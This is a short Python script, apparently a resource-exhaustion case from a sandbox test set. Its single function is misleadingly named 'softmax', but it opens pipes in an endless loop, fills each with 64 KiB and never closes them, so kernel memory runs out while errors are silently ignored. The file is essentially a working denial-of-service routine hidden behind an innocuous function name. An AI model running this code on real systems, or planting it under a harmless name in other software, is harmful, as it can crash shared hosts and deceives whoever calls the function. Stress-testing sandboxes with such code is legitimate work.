# Memory of the kernel: a hundred thousand full pipes.
# needs: namespaces
import os


def softmax(x):
    held = []
    while True:
        try:
            read, write = os.pipe()
            os.set_blocking(write, False)
            held.append((read, write))
            os.write(write, b"\1" * 65536)
        except OSError:
            pass
